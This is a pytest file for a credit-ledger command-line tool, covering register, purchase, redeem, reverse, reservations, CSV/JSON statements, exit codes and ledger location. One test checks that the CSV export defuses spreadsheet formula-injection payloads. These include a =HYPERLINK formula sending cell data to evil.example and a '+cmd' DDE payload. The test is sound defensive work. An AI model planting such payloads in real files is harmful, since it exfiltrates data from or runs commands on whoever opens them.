"""``run_assessment.py ledger ...``: the command-line contract (JSON keys, CSV, exit codes, one-line refusals that
change nothing) and where the ledger lives (--ledger, ASSESS_LEDGER, the default file)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from ledger_helpers import journal_snapshot, open_at

from app.cli import build_parser, ledger_url
from ledger.errors import LedgerError
from ledger.location import default_path, resolve_url

ROOT = Path(__file__).resolve().parents[1]
LAB = ROOT / "inventories" / "lab.yaml"


def run(*args: str, env: dict[str, str] | None = None, home: Path | None = None) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k not in ("ASSESS_LEDGER", "XDG_DATA_HOME")}
    if home is not None:
        environ["HOME"] = str(home)
    environ.update(env or {})
    return subprocess.run([sys.executable, str(ROOT / "run_assessment.py"), "ledger", *args], capture_output=True,
                          text=True, check=False, cwd=ROOT, env=environ)


@pytest.fixture
def db(tmp_path: Path) -> str:
    """A ledger file with the lab customer registered and two lots bought (through the API: the CLI's own
    register and purchase output is checked in test_register_and_purchase_output)."""
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    with open_at(url) as ledger:
        ledger.register_inventory(LAB)
        ledger.purchase("acme-sg", 10, "2026-01-10", "PO-1")
        ledger.purchase("acme-sg", 6, "2026-03-01", "PO-2")
    return url


def test_register_and_purchase_output(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    proc = run("--ledger", url, "register", "--inventory", str(LAB), "--date", "2026-02-01")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == ["registered acme-sg (ACME Pte Ltd), record version 1"]
    assert proc.stderr.splitlines() == [  # warnings go to stderr
        "warning: C. Eng <c@acme.example> has no JNCIS-level certification: recommended"]
    proc = run("--ledger", url, "register", "--inventory", str(LAB), "--date", "2028-02-01")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == "unchanged: acme-sg (ACME Pte Ltd), record version 1"
    assert proc.stdout.splitlines()[-1] == ("not eligible on 2028-02-01: Juniper Care contract JC-1001 ended "
                                            "2027-12-31, before 2028-02-01")
    proc = run("--ledger", url, "purchase", "acme-sg", "10", "--date", "2026-01-10", "--reference", "PO-1")
    assert (proc.returncode, proc.stdout) == (0, "purchased 10 credits for acme-sg on 2026-01-10: lot 1, usable "
                                                 "until 2027-01-09, PO-1\n")


def test_redeem_balance_statement_contract(db: str) -> None:
    proc = run("--ledger", db, "redeem", "acme-sg", "PIIR", "--units", "3", "--date", "2026-04-01",
               "--request-id", "rev-1", "--note", "PIIR for SG1", "--json")
    assert proc.returncode == 0, proc.stderr
    r = json.loads(proc.stdout)
    assert (r["credits"], r["service"], r["units"], r["replayed"]) == (12, "PIIR", 3, False)
    assert [(a["lot"], a["credits"], a["expires"]) for a in r["allocations"]] == [(1, 10, "2027-01-09"),
                                                                                  (2, 2, "2027-02-28")]
    again = run("--ledger", db, "redeem", "acme-sg", "PIIR", "--units", "3", "--date", "2026-04-01",
                "--request-id", "rev-1", "--note", "PIIR for SG1")
    assert again.returncode == 0 and again.stdout.startswith("already redeemed, nothing charged again: PIIR x3")
    proc = run("--ledger", db, "balance", "acme-sg", "--date", "2027-01-10", "--json")
    assert proc.returncode == 0, proc.stderr
    bal = json.loads(proc.stdout)
    assert {"available", "expired", "lots"} <= set(bal)
    assert (bal["available"], bal["expired"]) == (4, 0)
    assert bal["lots"][0] == {"id": 1, "purchased": "2026-01-10", "expires": "2027-01-09", "credits": 10,
                              "remaining": 0, "reference": "PO-1", "status": "used"}
    assert {"purchased", "expires", "credits", "remaining"} <= set(bal["lots"][1])
    proc = run("--ledger", db, "reverse", "rev-1", "--reason", "collection failed", "--date", "2027-01-20")
    assert proc.returncode == 0, proc.stderr
    assert "12 credits back to lot 1 (10, expires 2027-01-09), lot 2 (2, expires 2027-02-28)" in proc.stdout
    assert "warning: 10 of them went back to lots that had expired by 2027-01-20 and cannot be used" in proc.stderr
    proc = run("--ledger", db, "statement", "acme-sg", "--date", "2027-03-15", "--json")
    assert proc.returncode == 0, proc.stderr
    lines = json.loads(proc.stdout)
    assert isinstance(lines, list)
    assert all({"type", "date", "credits", "service", "request_id", "lot"} <= set(e) for e in lines)
    assert [(e["type"], e["date"], e["credits"], e["lot"]) for e in lines] == [
        ("purchase", "2026-01-10", 10, 1), ("purchase", "2026-03-01", 6, 2),
        ("redemption", "2026-04-01", -12, None), ("reversal", "2027-01-20", 12, None),
        ("expiry", "2027-01-20", -10, 1), ("expiry", "2027-03-01", -6, 2)]
    assert lines[2]["service"] == "PIIR" and lines[2]["request_id"] == "rev-1"
    proc = run("--ledger", db, "statement", "acme-sg", "--date", "2027-03-15", "--csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert [(r["type"], r["credits"], r["lots"]) for r in rows] == [
        ("purchase", "10", "1:+10"), ("purchase", "6", "2:+6"), ("redemption", "-12", "1:-10;2:-2"),
        ("reversal", "12", "1:+10;2:+2"), ("expiry", "-10", "1:-10"), ("expiry", "-6", "2:-6")]
    # the 10 credits given back to lot 1 after it expired never count as available, whatever the date asked
    text = run("--ledger", db, "balance", "acme-sg", "--date", "2026-04-01")
    assert text.stdout.splitlines()[0] == ("acme-sg on 2026-04-01: 6 credits available, 0 expired unused, "
                                           "0 bought for later")


@pytest.mark.parametrize(("args", "message"), [
    (["redeem", "acme-sg", "PHC", "--units", "4", "--date", "2026-04-01", "--request-id", "x"],
     "refused: insufficient credits: PHC x4 requests needs 20, acme-sg has 16 usable on 2026-04-01; nothing "
     "charged"),
    (["redeem", "acme-sg", "PHC", "--date", "2027-03-01", "--request-id", "x"],
     "refused: insufficient credits: PHC x1 request needs 5, acme-sg has 0 usable on 2027-03-01 (16 more expired "
     "unused, last on 2027-02-28); nothing charged"),
    (["redeem", "acme-sg", "WIDGET", "--date", "2026-04-01", "--request-id", "x"],
     "refused: unknown service 'WIDGET': expected one of SMO TG IMWS SRRA PBNIR PIIR CACR PHC"),
    (["redeem", "nobody", "PHC", "--date", "2026-04-01", "--request-id", "x"],
     "refused: unknown customer 'nobody': register it first (ledger register --inventory)"),
    (["redeem", "acme-sg", "PHC", "--date", "2028-01-01", "--request-id", "x"],
     "refused: acme-sg is not eligible on 2028-01-01: Juniper Care contract JC-1001 ended 2027-12-31, before "
     "2028-01-01"),
    (["purchase", "nobody", "5", "--date", "2026-04-01"],
     "refused: unknown customer 'nobody': register it first (ledger register --inventory)"),
    (["reverse", "never-seen", "--reason", "x"], "refused: no redemption with request id 'never-seen'"),
])
def test_refusals_are_one_line_exit_3_and_change_nothing(db: str, args: list[str], message: str) -> None:
    with open_at(db) as ledger:
        before = journal_snapshot(ledger)
    proc = run("--ledger", db, *args)
    assert (proc.returncode, proc.stdout, proc.stderr) == (3, "", message + "\n")
    with open_at(db) as ledger:
        assert journal_snapshot(ledger) == before


LONG = "P" * 201


@pytest.mark.parametrize(("args", "message"), [
    (["redeem", "acme-sg", "PHC", "--date", "2026-04-31", "--request-id", "x"],
     "error: bad date '2026-04-31': expected YYYY-MM-DD, e.g. 2026-01-10"),
    (["redeem", "acme-sg", "TG", "--units", "x", "--date", "2026-04-01", "--request-id", "x"],
     "error: bad units 'x': expected a whole number"),
    (["purchase", "acme-sg", "-5", "--date", "2026-04-01"], "error: bad credits -5: expected 1 to 1000000"),
    (["balance", "acme-sg", "--date", "tomorrow"],
     "error: bad date 'tomorrow': expected YYYY-MM-DD, e.g. 2026-01-10"),
    # issue 14: an ISO week date was read as 2025-12-29; 9999-12-31 was a traceback (the lot's expiry overflowed)
    (["purchase", "acme-sg", "5", "--date", "2026-W01-1"],
     "error: bad date '2026-W01-1': expected YYYY-MM-DD, e.g. 2026-01-10"),
    (["purchase", "acme-sg", "5", "--date", "9999-12-31"],
     "error: bad date 9999-12-31: expected a date from 1990-01-01 to 2200-12-31"),
    (["balance", "acme-sg", "--date", "1989-12-31"],
     "error: bad date 1989-12-31: expected a date from 1990-01-01 to 2200-12-31"),
    # issue 14: int() took "1_0" as 10 and Arabic-Indic digits as numbers
    (["redeem", "acme-sg", "TG", "--units", "1_0", "--date", "2026-04-01", "--request-id", "x"],
     "error: bad units '1_0': expected a whole number"),
    (["redeem", "acme-sg", "TG", "--units", "\u0663", "--date", "2026-04-01", "--request-id", "x"],
     "error: bad units '\u0663': expected a whole number"),
    (["purchase", "acme-sg", "\uff15", "--date", "2026-04-01"], "error: bad credits '\uff15': expected a whole number"),
    # issue 14: over-long text was stored by SQLite and failed as "write failed" (exit 2) on PostgreSQL
    (["purchase", "acme-sg", "5", "--date", "2026-04-01", "--reference", LONG],
     "error: purchase reference too long: 201 characters, at most 200"),
    (["redeem", "acme-sg", "TG", "--date", "2026-04-01", "--request-id", LONG],
     "error: a request id is required: 1 to 200 printable characters (got 201)"),
    (["reserve", "acme-sg", "TG", "--date", "2026-04-01", "--request-id", "x", "--holder", "h" * 1001],
     "error: holder too long: 1001 characters, at most 1000"),
])
def test_bad_input_is_one_line_exit_2_and_changes_nothing(db: str, args: list[str], message: str) -> None:
    with open_at(db) as ledger:
        before = journal_snapshot(ledger)
    proc = run("--ledger", db, *args)
    assert (proc.returncode, proc.stdout, proc.stderr) == (2, "", message + "\n")
    with open_at(db) as ledger:
        assert journal_snapshot(ledger) == before


def test_a_reversed_redemption_is_not_replayed_as_charged(db: str) -> None:
    """issue 14: redeem with the id of a reversed redemption said "already redeemed, nothing charged again" while
    the credits stayed refunded."""
    args = ("--ledger", db, "redeem", "acme-sg", "PHC", "--date", "2026-04-01", "--request-id", "r-1")
    assert run(*args).returncode == 0
    assert run("--ledger", db, "reverse", "r-1", "--reason", "not delivered", "--date", "2026-04-02").returncode == 0
    with open_at(db) as ledger:
        before = journal_snapshot(ledger)
    proc = run(*args)
    assert (proc.returncode, proc.stdout) == (3, "")
    assert proc.stderr == ("refused: request id 'r-1' was charged on 2026-04-01 and reversed on 2026-04-02 "
                           "(not delivered); give a new request id; nothing charged\n")
    with open_at(db) as ledger:
        assert journal_snapshot(ledger) == before
        assert ledger.balance("acme-sg", "2026-04-02").available == 16


def test_statement_csv_defuses_formulas(db: str) -> None:
    """issue 14: a request id or note such as =HYPERLINK(...) was written as is, and a spreadsheet would run it."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    for n, (rid, note) in enumerate([(evil, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3"), ("plain", "fine")]):
        proc = run("--ledger", db, "redeem", "acme-sg", "TG", "--date", f"2026-04-0{n + 1}", f"--request-id={rid}",
                   f"--note={note}")
        assert proc.returncode == 0, proc.stderr
    proc = run("--ledger", db, "statement", "acme-sg", "--csv")
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    cells = [row[key] for row in rows for key in ("request_id", "note", "reference", "holder")]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    redeemed = [row for row in rows if row["type"] == "redemption"]
    assert [(r["request_id"], r["note"]) for r in redeemed] == [
        ("'" + evil, "'+cmd|' /C calc'!A0"), ("'@SUM(1+1)", "'-2+3"), ("plain", "fine")]
    assert [r["credits"] for r in redeemed] == ["-1", "-1", "-1"]  # numbers the ledger writes stay numbers


def test_output_into_a_closed_pipe_ends_quietly(db: str) -> None:
    """issue 14: ``ledger balance | head`` ended in a BrokenPipeError traceback."""
    with open_at(db) as ledger:
        for n in range(300):
            ledger.purchase("acme-sg", 1, "2026-01-10", f"PO-{n}")
    for args in (["balance", "acme-sg"], ["statement", "acme-sg"], ["statement", "acme-sg", "--csv"],
                 ["statement", "acme-sg", "--json"]):
        script = (f"{sys.executable} {ROOT / 'run_assessment.py'} ledger --ledger {db} {' '.join(args)} | head -n 1;"
                  " exit ${PIPESTATUS[0]}")
        proc = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=False, cwd=ROOT)
        assert proc.stderr == "", proc.stderr
        assert len(proc.stdout.splitlines()) == 1
        # 141 (README's exit-code table) when the reader left first; 0 when everything fitted in the pipe before
        # it did. The JSON statement (over 64 KiB, more than a pipe holds) always meets the closed pipe.
        assert proc.returncode == 141 if "--json" in args else proc.returncode in (0, 141)


def test_where_the_ledger_lives(tmp_path: Path) -> None:
    # the default: a file under HOME, created with its folder on first use
    home = tmp_path / "home"
    home.mkdir()
    proc = run("register", "--inventory", str(LAB), home=home)
    assert proc.returncode == 0, proc.stderr
    assert (home / ".local" / "share" / "msplus" / "ledger.db").is_file()
    # ASSESS_LEDGER (a plain path) and --ledger (before or after the subcommand; it wins over the variable)
    env_file, flag_file = tmp_path / "env.db", tmp_path / "flag.db"
    assert run("register", "--inventory", str(LAB), env={"ASSESS_LEDGER": str(env_file)}).returncode == 0
    assert env_file.is_file()
    proc = run("purchase", "acme-sg", "5", "--ledger", str(flag_file), env={"ASSESS_LEDGER": str(env_file)})
    assert proc.returncode == 3 and "unknown customer" in proc.stderr and flag_file.is_file()
    # an unusable ledger is an error (exit 2), in one line
    proc = run("--ledger", "mysql://db/x", "balance", "acme-sg")
    assert (proc.returncode, proc.stderr) == (2, "error: unsupported ledger URL scheme 'mysql': use a file path, "
                                                 "sqlite:/// or postgresql://\n")
    proc = run("--ledger", str(tmp_path / "missing" / "x.db"), "balance", "acme-sg")
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "does not exist" in proc.stderr


def test_url_resolution() -> None:
    env = {"HOME": "/home/u"}
    assert resolve_url(None, env) == "sqlite:////home/u/.local/share/msplus/ledger.db"
    assert default_path({"XDG_DATA_HOME": "/data", "HOME": "/home/u"}) == Path("/data/msplus/ledger.db")
    assert resolve_url(None, {**env, "ASSESS_LEDGER": "postgresql://postgres@127.0.0.1:5432/test"}) == \
        "postgresql+psycopg://postgres@127.0.0.1:5432/test"
    assert resolve_url("postgres://u@h/db", env) == "postgresql+psycopg://u@h/db"
    assert resolve_url("postgresql+psycopg2://u@h/db", env) == "postgresql+psycopg://u@h/db"
    assert resolve_url("sqlite:////abs/l.db", {**env, "ASSESS_LEDGER": "/other.db"}) == "sqlite:////abs/l.db"
    assert resolve_url("/abs/dir/l.db", env) == "sqlite:////abs/dir/l.db"
    for bad in ("sqlite://", ":memory:", "sqlite:///:memory:", "oracle://x"):
        with pytest.raises(LedgerError):
            resolve_url(bad, env)
    args = build_parser().parse_args(["ledger", "--ledger", "/x/l.db", "balance", "acme-sg"])
    assert ledger_url(args) == "sqlite:////x/l.db"
    args = build_parser().parse_args(["ledger", "balance", "acme-sg", "--ledger", "/y/l.db"])
    assert ledger_url(args) == "sqlite:////y/l.db"


def test_register_needs_no_device_credentials(tmp_path: Path) -> None:
    inventory = tmp_path / "inv.yaml"
    inventory.write_text(LAB.read_text().split("defaults:")[0] +
                         "defaults: {username: ops, password_env: NOT_SET_ANYWHERE}\n"
                         "devices:\n  - {name: r1, host: 127.0.0.1, password_prompt: true}\n")
    proc = run("--ledger", str(tmp_path / "l.db"), "register", "--inventory", str(inventory), "--json")
    assert proc.returncode == 0, proc.stderr
    reg = json.loads(proc.stdout)
    assert (reg["customer"], reg["version"], reg["eligibility"]["ok"]) == ("acme-sg", 1, True)
    assert "lab123" not in proc.stdout
    bare = tmp_path / "bare.yaml"
    bare.write_text("devices:\n  - {name: r1, host: 127.0.0.1}\n")
    proc = run("--ledger", str(tmp_path / "l.db"), "register", "--inventory", str(bare))
    assert (proc.returncode, proc.stderr) == (3, f"refused: {bare}: the inventory has no customer: section\n")
    broken = tmp_path / "broken.yaml"
    broken.write_text("customer: {id: x}\ndevices:\n  - {name: r1, host: 127.0.0.1}\n")
    proc = run("--ledger", str(tmp_path / "l.db"), "register", "--inventory", str(broken))
    assert proc.returncode == 2 and f"{broken}:1:" in proc.stderr


def test_dates_default_to_today(tmp_path: Path) -> None:
    db = str(tmp_path / "l.db")
    assert run("--ledger", db, "register", "--inventory", str(LAB)).returncode == 0
    proc = run("--ledger", db, "purchase", "acme-sg", "3", "--json")
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["date"] == date.today().isoformat()


def test_command_line_loads_sqlalchemy_only_for_ledger_commands() -> None:
    code = ("import sys, app.cli as c; a = c.build_parser().parse_args(['ledger', 'balance', 'x']); "
            "c.ledger_url(a); print('sqlalchemy' in sys.modules)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    assert proc.stdout.strip() == "False"


def test_reserve_capture_release_and_reservations(db: str) -> None:
    proc = run("--ledger", db, "reserve", "acme-sg", "CACR", "--date", "2026-04-01", "--request-id", "c-1",
               "--holder", "a test")
    # the result on stdout; warnings go to stderr (the command-line convention)
    assert (proc.returncode, proc.stderr) == (
        0, "warning: C. Eng <c@acme.example> has no JNCIS-level certification: recommended\n")
    assert proc.stdout.splitlines() == [
        "reserved CACR x1 for acme-sg on 2026-04-01: 5 credits held from lot 1 (5, expires 2027-01-09); request c-1 "
        "(entry 3)"]
    proc = run("--ledger", db, "balance", "acme-sg", "--date", "2026-04-01")
    assert proc.stdout.splitlines()[0] == ("acme-sg on 2026-04-01: 11 credits available, 5 held by open "
                                           "reservations, 0 expired unused, 0 bought for later")
    listed = run("--ledger", db, "reservations").stdout.splitlines()
    assert listed[0].split() == ["request_id", "customer", "service", "units", "credits", "date", "reserved_at",
                                 "holder"]
    assert listed[1].split()[:6] == ["c-1", "acme-sg", "CACR", "1", "5", "2026-04-01"]
    assert listed[1].endswith("a test")
    proc = run("--ledger", db, "capture", "c-1")
    assert proc.stdout == ("captured request c-1: 5 credits charged for CACR x1 (acme-sg, 2026-04-01) from lot 1 "
                           "(5, expires 2027-01-09) (entry 5)\n")
    assert run("--ledger", db, "capture", "c-1").stdout.startswith("already captured, nothing charged again:")
    assert run("--ledger", db, "reservations").stdout == "no open reservations\n"
    proc = run("--ledger", db, "release", "c-1", "--reason", "late")
    assert (proc.returncode, proc.stderr) == (3, "refused: request id 'c-1' was captured (charged), not held: to "
                                                 "refund it use ledger reverse; nothing released\n")
    run("--ledger", db, "reserve", "acme-sg", "PHC", "--date", "2026-04-01", "--request-id", "p-1")
    proc = run("--ledger", db, "release", "p-1", "--reason", "no review", "--json")
    assert proc.returncode == 0
    assert {k: json.loads(proc.stdout)[k] for k in ("status", "credits", "released")} == {
        "status": "released", "credits": 5, "released": "no review"}
    rows = list(csv.DictReader(io.StringIO(run("--ledger", db, "statement", "acme-sg", "--csv").stdout)))
    assert [(r["type"], r["credits"], r["request_id"], r["reverses"]) for r in rows if r["type"] != "purchase"] == [
        ("reservation", "-5", "c-1", ""), ("release", "5", "c-1", "3"), ("redemption", "-5", "c-1", ""),
        ("reservation", "-5", "p-1", ""), ("release", "5", "p-1", "6")]
    assert next(r["holder"] for r in rows if r["type"] == "reservation") == "a test"
